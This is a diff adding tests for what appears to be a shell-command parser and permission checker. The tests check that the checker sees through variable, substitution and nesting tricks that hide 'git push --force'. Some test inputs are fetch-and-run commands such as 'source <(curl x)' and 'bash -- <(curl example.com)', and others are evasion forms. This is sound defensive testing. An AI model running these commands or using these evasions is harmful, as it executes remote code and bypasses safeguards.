@@ -659,3 +659,93 @@ def test_arithmetic_right_after_a_substitution() -> None:
         ["echo", "a$((1+2))", "done"],
         ["git", "push", "--force"],
     ]
+
+
+def test_variables_are_followed_up_to_their_bound() -> None:
+    def last_command(names: int) -> list[str]:
+        fillers = "".join(f"v{number}=a; " for number in range(names - 1))
+        return argv_lists(fillers + "c=git; $c push")[-1]
+
+    assert last_command(256) == ["git", "push"]
+    assert last_command(257) == ["$c", "push"]  # a new name past the bound stays blind
+
+
+def test_sibling_constructs_do_not_deepen_the_nesting_bound() -> None:
+    siblings = "(a); (b); echo $(c) $(d) ${x:-e}; "
+    deep = "(" * 65 + "x" + ")" * 65
+    assert parse_command(siblings + deep).problem == "constructs nested more than 64 deep"
+    assert parse_command(siblings + "(" * 64 + "x" + ")" * 64).problem == ""
+
+
+def test_nested_default_values_parse_at_least_twenty_deep() -> None:
+    text = "echo " + "${x:-" * 20 + "$(git push --force)" + "}" * 20
+    assert parse_command(text).problem == ""
+    assert decision(text) == "deny"
+
+
+def test_a_shell_option_value_is_not_the_script() -> None:
+    for text in ("bash -o errexit -c 'git push --force'", "bash +O extglob -c 'git push -f'"):
+        assert argv_lists(text)[-1][:2] == ["git", "push"]
+        assert decision(text) == "deny"
+
+
+@pytest.mark.parametrize("text", ["bash -x deploy.sh", "sh -e deploy.sh", "bash -- deploy.sh"])
+def test_limit_a_shell_running_a_file_runs_no_script_from_the_text(text: str) -> None:
+    parsed = parse_command(text)
+    assert [list(c.argv) for c in parsed.commands] == [text.split()]
+    assert parsed.commands[0].hidden == ""
+
+
+def test_limit_sourcing_a_file_is_not_followed() -> None:
+    for text in ("source ./env.sh", ". ./env.sh"):
+        parsed = parse_command(text)
+        assert [list(c.argv) for c in parsed.commands] == [text.split()]
+        assert parsed.commands[0].hidden == ""
+    assert parse_command("source <(curl x)").commands[-1].hidden  # positive control
+
+
+def test_an_unquoted_substitution_is_split_a_quoted_one_is_not() -> None:
+    assert argv_lists("git $(echo push -f)")[-1] == ["git", "push", "-f"]
+    assert argv_lists('git "$(echo push -f)"')[-1] == ["git", "push -f"]
+    assert decision("git $(echo push -f)") == "deny"
+
+
+@pytest.mark.parametrize("text", ["$(echo -n) git push", "echo -n | sh", "$(echo -n -e) x"])
+def test_echo_with_only_options_prints_nothing(text: str) -> None:
+    parsed = parse_command(text)
+    assert parsed.problem == ""
+    assert judge_command(RULES, text).decision in ("none", "ask")
+
+
+def test_arithmetic_of_any_length_ends_at_its_own_parentheses() -> None:
+    text = "echo $((12)) $((1+2)) $(( (1) )) $((123)); git push --force"
+    parsed = parse_command(text)
+    assert parsed.problem == ""
+    assert [list(c.argv) for c in parsed.commands] == [
+        ["echo", "$((12))", "$((1+2))", "$(( (1) ))", "$((123))"],
+        ["git", "push", "--force"],
+    ]
+
+
+def test_each_field_of_a_split_value_is_judged_on_its_own() -> None:
+    def only(text: str) -> SimpleCommand:
+        return parse_command(text).commands[-1]
+
+    # a glob in one field makes only that field blind
+    assert [b.position for b in only('X="*.py a"; rm $X').blind] == [1]
+    later = only('X="a *.py"; rm $X').blind
+    assert [b.position for b in later] == [2]
+    assert later[0].values is not None and later[0].values.fullmatch("x.py")
+    assert not later[0].values.fullmatch("x.sh")
+    # a trailing blank makes no empty word; a later field is a file, not a process
+    assert only('X="push "; git $X --force').argv == ("git", "push", "--force")
+    assert only('X="-x deploy.sh"; bash $X').hidden == ""
+
+
+@pytest.mark.parametrize("end_of_options", ["--", "-"])
+def test_a_shell_reading_a_process_substitution_after_end_of_options(
+    end_of_options: str,
+) -> None:
+    text = f"bash {end_of_options} <(curl example.com)"
+    assert parse_command(text).commands[-1].hidden == "bash reading a process substitution"
+    assert judge_command([], text).decision == "ask"
